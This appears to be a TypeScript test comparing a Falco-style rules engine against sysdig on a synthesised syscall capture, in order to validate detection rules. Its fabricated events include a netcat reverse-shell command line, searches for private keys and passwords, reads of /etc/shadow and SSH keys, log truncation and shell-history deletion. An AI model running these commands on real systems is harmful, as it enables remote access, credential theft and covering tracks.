/**
 * falcosecurity/rules 5.1.0 replayed on a synthesised capture, rule by rule against sysdig 0.29
 * running each rule's compiled condition: the events each rule matches must be the same events.
 *
 * Two things about sysdig 0.29 shape the comparison (docs/conformance-notes.md has the full
 * account): its parser rejects some conditions, among them every list holding the bare item
 * `(systemd)`; those are given to it with that item quoted, which means the same. And its libsinsp
 * takes a socket's family and a connect's descriptor from the enter events, so the capture holds
 * the enter events of socket and connect, as captures of the kernel drivers do.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { BatchBuilder, EVENT_TABLE, readScapBuffer, writeScapFile, type ThreadInfo } from '@falco-ts/driver';
import { print } from '@falco-ts/filter-lang';
import { Engine } from '../../src/engine';
import { SyscallSource } from '../../src/syscall/source';
import { param, sockaddr, tuple, typeOf, type Value } from '../support/synth';

const RULES = resolve(__dirname, '../../../../../shared/conformance/rules/falco-rules-5.1.0/rules');
const EMPTY = resolve(__dirname, '../../../../../shared/conformance/falco/captures/empty.scap');
const EVENTS = 3000;
const CONTAINER = '3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e';






const PROGRAMS = [['cat', '/usr/bin/cat'], ['bash', '/usr/bin/bash'], ['python3', '/usr/bin/python3'], ['curl', '/usr/bin/curl'],
  ['grep', '/usr/bin/grep'], ['nginx', '/usr/sbin/nginx'], ['sshd', '/usr/sbin/sshd'], ['node', '/usr/bin/node']] as const;
const FILES = ['/etc/passwd', '/etc/hosts', '/usr/lib/x86_64-linux-gnu/libc.so.6', '/tmp/work.txt', '/var/log/syslog',
  '/etc/ld.so.cache', '/home/u/.bashrc', '/etc/shadow', '/etc/sudoers.d/x', '/root/.ssh/id_rsa'];

function threadInfo(tid: number, comm: string, exepath: string): ThreadInfo {
  return {
    tid, pid: tid, ptid: 1, sid: 1000, vpgid: 1000, pgid: 1000, comm, exe: comm, exepath, args: ['--serve'], cwd: '/srv/',
    fdlimit: 1024, flags: 0, uid: 1000, gid: 1000, vmsizeKb: 0, vmrssKb: 0, vmswapKb: 0, pfmajor: 0n, pfminor: 0n, env: ['PATH=/usr/bin'],
    vtid: tid, vpid: tid, cgroups: ['cpuset=/'], root: '/', pidnsInitStartTs: 0n, tty: 0, loginuid: 1000, exeWritable: false,
    capInheritable: 0n, capPermitted: 0n, capEffective: 0n, exeUpperLayer: false, exeLowerLayer: false, exeFromMemfd: false,
    exeIno: 0n, exeInoCtime: 0n, exeInoMtime: 0n, fds: [],
  };
}

/**
 * Spawns (shells, search and wipe tools, netcat, a binary in /dev/shm), opens for reading and
 * writing, a truncated log, a deleted shell history, reads, writes, connections (public and
 * loopback) and closes by 16 processes, two of them in a container.
 */
async function synthesise(file: string): Promise<void> {
  const T = {
    clone: typeOf('clone', 'exit'), execve: typeOf('execve', 'exit'), execveE: typeOf('execve', 'enter'), openat: typeOf('openat', 'exit'),
    openatE: typeOf('openat', 'enter'), read: typeOf('read', 'exit'), write: typeOf('write', 'exit'), close: typeOf('close', 'exit'),
    socketE: typeOf('socket', 'enter'), socket: typeOf('socket', 'exit'), connectE: typeOf('connect', 'enter'), connect: typeOf('connect', 'exit'),
    procexit: typeOf('procexit', 'enter'), unlinkat: typeOf('unlinkat', 'exit'),
  };
  const threads = Array.from({ length: 16 }, (_, k) => threadInfo(1000 + k, PROGRAMS[k % 8]![0], PROGRAMS[k % 8]![1]));
  // Two of them run in a container.
  for (const t of [threads[3]!, threads[12]!]) t.cgroups = [`cpuset=/docker/${CONTAINER}`];
  const b = new BatchBuilder(1 << 22);
  let ts = 1_700_000_000_000_000_000n;
  let n = 0;
  const push = (type: number, tid: number, values: Record<string, Value | undefined>): void => {
    ts += 2000n;
    b.push({ ts, tid, type, params: EVENT_TABLE[type]!.params.map(([name, pt]) => param(pt, values[name])), cpu: n % 2 });
    n++;
  };
  let nextTid = 5000;
  const spawn = (p: ThreadInfo, comm: string, exepath: string, args: readonly string[], tty: number): void => {
    const tid = nextTid++;
    push(T.clone, tid, { res: 0, exe: p.exe, args: p.args, tid, pid: tid, ptid: p.tid, cwd: '/srv', comm: p.comm, flags: 0, uid: 1000, gid: 1000, vtid: tid, vpid: tid, cgroups: p.cgroups });
    push(T.execveE, tid, { filename: exepath });
    push(T.execve, tid, { res: 0, exe: comm, args, tid, pid: tid, ptid: p.tid, comm, cgroups: p.cgroups, env: ['PATH=/usr/bin'], tty, uid: 1000, gid: 1000, filename: exepath, trusted_exepath: exepath, loginuid: 1000 });
    push(T.procexit, tid, { status: 0, ret: 0, sig: 0, reaper_tid: 1 });
  };
  const SPAWNS: Array<[string, string, string[], number]> = [
    ['bash', '/usr/bin/bash', ['-c', 'echo hi'], 0],
    ['find', '/usr/bin/find', ['/', '-name', 'id_rsa'], 34816],
    ['grep', '/usr/bin/grep', ['-r', 'password', '/etc'], 34816],
    ['shred', '/usr/bin/shred', ['-u', '/tmp/work.txt'], 0],
    ['payload', '/dev/shm/payload', [], 0],
    ['nc', '/usr/bin/nc', ['-e', '/bin/sh', '10.1.1.1', '4444'], 0],
    ['whoami', '/usr/bin/whoami', [], 34816],
    ['python3', '/usr/bin/python3', ['-c', 'import pty'], 34816],
  ];
  for (let step = 0; n < EVENTS; step++) {
    const p = threads[step % threads.length]!;
    const fd = 3 + (step % 5);
    const path = FILES[step % FILES.length]!;
    const r = step % 41;
    if (r === 0) {
      const [comm, exepath, args, tty] = SPAWNS[(step / 41) % SPAWNS.length | 0]!;
      spawn(p, comm, exepath, args, tty);
    } else if (r === 37) {
      // Truncating a log, deleting a shell history.
      push(T.openatE, p.tid, { dirfd: -100, name: '/var/log/syslog', flags: 2 | 256 });
      push(T.openat, p.tid, { fd, dirfd: -100, name: '/var/log/syslog', flags: 2 | 256 });
      push(T.unlinkat, p.tid, { res: 0, dirfd: -100, name: '/root/.bash_history', flags: 0 });
    } else if (r > 37) {
      push(T.close, p.tid, { res: 0, fd });
    } else if (r < 12) {
      const flags = r % 3 === 0 ? 2 | 4 : 1; // read/write and create, or read only
      push(T.openatE, p.tid, { dirfd: -100, name: path, flags });
      push(T.openat, p.tid, { fd, dirfd: -100, name: path, flags });
    } else if (r < 20) {
      push(T.read, p.tid, { res: 16, data: 'GET / HTTP/1.1\r\n', fd, size: 16 });
    } else if (r < 26) {
      push(T.write, p.tid, { res: 3, data: 'ok\n', fd, size: 3 });
    } else if (r < 30) {
      const dst = r % 2 === 0 ? [93, 184, 216, 34] : [127, 0, 0, 1];
      push(T.socketE, p.tid, { domain: 2, type: 1, proto: 0 });
      push(T.socket, p.tid, { fd: 9, domain: 2, type: 1, proto: 0 });
      push(T.connectE, p.tid, { fd: 9, addr: sockaddr(dst, 443) });
      push(T.connect, p.tid, { res: 0, tuple: tuple([10, 0, 0, 5], 40000 + (step % 20000), dst, 443), fd: 9, addr: sockaddr(dst, 443) });
    } else {
      push(T.close, p.tid, { res: 0, fd });
    }
  }
  await writeScapFile(file, { threads, users: [], groups: [], interfaces: [] }, [b.build()]);
}

describe('falcosecurity/rules 5.1.0 against sysdig 0.29, rule by rule', () => {
  it('each rule matches the same events', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'rules-vs-sysdig-'));
    try {
      const file = join(dir, 'mix.scap');
      await synthesise(file);
      const source = new SyscallSource({ hostname: 'h' });
      const engine = new Engine();
      engine.addSource(source);
      for (const f of ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml']) {
        expect(engine.loadRules(readFileSync(resolve(RULES, f), 'utf8'), f).errors).toEqual([]);
      }
      // Our matches, every rule (rule_matching: all), by event time.
      const ours = new Map<string, Set<string>>();
      const delivered = new Set<string>();
      const contents = readScapBuffer(new Uint8Array(readFileSync(file)));
      source.seedFromCapture(contents.state);
      for (const b of contents.batches) {
        source.forEach(b, (e) => {
          delivered.add(String(e.ts));
          for (const rule of engine.processEvent('syscall', e, { matching: 'all' })) {
            let s = ours.get(rule.name);
            if (s === undefined) ours.set(rule.name, (s = new Set()));
            s.add(String(e.ts));
          }
        });
      }
      const compared: string[] = [];
      const differences: string[] = [];
      for (const rule of engine.rules().filter((r) => r.enabled)) {
        let condition = print(rule.ast);
        if (spawnSync('sysdig', ['-r', EMPTY, condition]).status !== 0) {
          condition = condition.replace(/([(,]\s*)\(([^()\s,"]+)\)(?=\s*[,)])/g, '$1"($2)"');
          if (spawnSync('sysdig', ['-r', EMPTY, condition]).status !== 0) continue;
        }
        const out = spawnSync('sysdig', ['-r', file, '-p', '%evt.rawtime', condition], { encoding: 'utf8', maxBuffer: 1 << 26 });
        // sysdig also evaluates enter events that Falco 0.42 does not deliver.
        const theirs = out.stdout.split('\n').filter((t) => t !== '' && delivered.has(t));
        const mine = ours.get(rule.name) ?? new Set<string>();
        const onlyTheirs = theirs.filter((t) => !mine.has(t)).length;
        const onlyOurs = [...mine].filter((t) => !theirs.includes(t)).length;
        if (onlyTheirs + onlyOurs > 0) differences.push(`${rule.name}: ${onlyOurs} only here, ${onlyTheirs} only in sysdig (${[...mine].filter((t) => !theirs.includes(t)).slice(0, 3).join(" ")})`);
        if (theirs.length > 0) compared.push(`${rule.name} ${theirs.length}`);
      }
      expect(differences).toEqual([]);
      // The capture exercises rules sysdig accepts as given and rules it accepts with `(systemd)` quoted.
      expect(compared.map((c) => c.replace(/ \d+$/, '')).sort()).toEqual(
        expect.arrayContaining([
          'Clear Log Activities', 'Delete or rename shell history', 'Netcat/Socat Remote Code Execution on Host', 'Read sensitive file untrusted',
          'Read ssh information', 'Remove Bulk Data from Disk', 'Search Private Keys or Passwords', 'System procs network activity',
          'Web Server Spawned Suspicious Child Process', 'Write below etc',
        ]),
      );
    } finally {
      if (process.env['KEEP'] === undefined) rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);
});
